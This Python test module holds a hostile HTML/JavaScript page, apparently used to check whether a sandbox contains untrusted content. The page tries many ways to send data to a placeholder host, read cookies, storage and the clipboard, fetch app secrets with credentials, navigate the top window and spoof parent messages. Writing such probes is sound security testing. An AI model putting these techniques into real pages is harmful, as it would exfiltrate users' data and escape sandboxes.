"""A page that tries every way to the person's data and to the network, and says what it got."""

PAGE = """<!doctype html><html><head><meta charset=utf-8><title>hostile</title>
<base href="http://OUT/base/">
<link rel=dns-prefetch href="//OUT"><link rel=preconnect href="http://OUT"><link rel=prefetch href="http://OUT/prefetch"><link rel=preload as=image href="http://OUT/preload">
<link rel=modulepreload href="http://OUT/modulepreload"><link rel=stylesheet href="http://OUT/css"><link rel=icon href="http://OUT/icon">
<link rel=manifest href="http://OUT/manifest">
<script type="speculationrules">{"prefetch": [{"source": "list", "urls": ["http://OUT/speculated"]}]}</script>
<style>@import "http://OUT/import"; @font-face {font-family: x; src: url(http://OUT/font)} body {background: url(http://OUT/background); font-family: x}</style>
</head><body>
<img src="http://OUT/img"><img srcset="http://OUT/srcset 1x"><picture><source srcset="http://OUT/picture"><img></picture>
<video src="http://OUT/video" poster="http://OUT/poster" autoplay></video><audio src="http://OUT/audio" autoplay></audio>
<iframe src="http://OUT/frame"></iframe><object data="http://OUT/object"></object><embed src="http://OUT/embed">
<svg><image href="http://OUT/svgimage"/><use href="http://OUT/use#x"/></svg><script src="http://OUT/script"></script>
<form id=form action="http://OUT/form" method=post target=_top><input name=a value=b></form>
<form id=own action="APP/change" method=post><input name=a value=b></form>
<a id=ping href="#" ping="http://OUT/ping">x</a><a id=top href="http://OUT/top" target=_top>x</a><a id=blank href="http://OUT/blank" target=_blank>x</a>
<a id=save href="data:text/plain,x" download=x>x</a>
<script>
const got = {};
const attempt = async (name, work) => { try { got[name] = String(await work()); } catch (error) { got[name] = 'no'; } };
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const event = (target, good) => Promise.race([wait(1500).then(() => { throw 0; }),
  new Promise((done, no) => { target[good] = () => done('GOT'); target.onerror = no; })]);
const rtc = async (make) => { const peer = make({iceServers: [{urls: 'stun:127.0.0.1:UDP'}]}); peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer()); await wait(1000); return peer.localDescription.sdp.length; };
window.finished = Promise.all([
  attempt('origin', () => self.origin),
  attempt('parent', () => parent.document.title), attempt('top', () => top.location.href),
  attempt('parent storage', () => parent.localStorage.getItem('secret')),
  attempt('cookie', () => document.cookie || 'EMPTY'), attempt('set cookie', () => { document.cookie = 'planted=1'; return document.cookie; }),
  attempt('localStorage', () => localStorage.length), attempt('sessionStorage', () => sessionStorage.length),
  attempt('indexedDB', () => event(indexedDB.open('x'), 'onsuccess')), attempt('caches', () => caches.open('x')),
  attempt('fetch', async () => (await fetch('http://OUT/fetch', {mode: 'no-cors'})).type),
  attempt('fetch app', async () => (await fetch('APP/secret', {credentials: 'include'})).text()),
  attempt('fetch own', async () => (await fetch(location.href)).text()),
  attempt('keepalive', async () => (await fetch('http://OUT/keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})).type),
  attempt('xhr', () => new Promise((done, no) => { const x = new XMLHttpRequest(); x.onload = () => done('GOT'); x.onerror = no; x.open('GET', 'http://OUT/xhr'); x.send(); })),
  attempt('beacon', () => { if (!navigator.sendBeacon('http://OUT/beacon', 'x')) throw 0; return 'queued'; }),
  attempt('websocket', () => event(new WebSocket('ws://OUT/socket'), 'onopen')),
  attempt('app websocket', () => event(new WebSocket('APPWS/socket'), 'onopen')),
  attempt('eventsource', () => event(new EventSource('http://OUT/events'), 'onopen')),
  attempt('image', () => { const i = new Image(); i.src = 'http://OUT/image?' + document.title; return event(i, 'onload'); }),
  attempt('app image', () => { const i = new Image(); i.src = 'APP/picture'; return event(i, 'onload'); }),
  attempt('worker', () => event(new Worker(URL.createObjectURL(new Blob(["fetch('http://OUT/worker',{mode:'no-cors'});postMessage(1)"]))), 'onmessage')),
  attempt('service worker', () => navigator.serviceWorker.register('sw.js')),
  attempt('rtc', () => rtc((c) => new RTCPeerConnection(c))),
  attempt('frame rtc', () => { const f = document.createElement('iframe'); document.body.append(f); return rtc((c) => new f.contentWindow.RTCPeerConnection(c)); }),
  attempt('webtransport', async () => { await new WebTransport('https://127.0.0.1:UDP/').ready; return 'GOT'; }),
  attempt('import', () => import('http://OUT/module')), attempt('eval', () => eval('1+1')),
  attempt('popup', () => window.open('http://OUT/popup') ? 'GOT' : (() => { throw 0; })()),
  attempt('form', () => { form.submit(); return 'sent'; }), attempt('own form', () => { own.submit(); return 'sent'; }),
  attempt('clicks', () => { for (const id of ['ping', 'top', 'blank', 'save']) document.getElementById(id).click(); return 'clicked'; }),
  attempt('top navigation', () => { top.location = 'http://OUT/topnavigation'; return 'tried'; }),
  attempt('parent message', () => { parent.postMessage({type: 'streamlit:setComponentValue', value: 1}, '*'); return 'said'; }),
  attempt('srcdoc', () => { const f = document.createElement('iframe'); f.srcdoc = '<img src="http://OUT/srcdoc"><script>fetch("http://OUT/srcdocfetch")<\\/script>'; document.body.append(f); return 'made'; }),
  attempt('dialog', () => { alert('x'); return 'shown'; }),
  attempt('fullscreen', () => document.documentElement.requestFullscreen()),
  attempt('geolocation', () => new Promise((done, no) => navigator.geolocation.getCurrentPosition(() => done('GOT'), no))),
  attempt('clipboard', () => navigator.clipboard.readText()),
]).then(() => got);
</script></body></html>"""
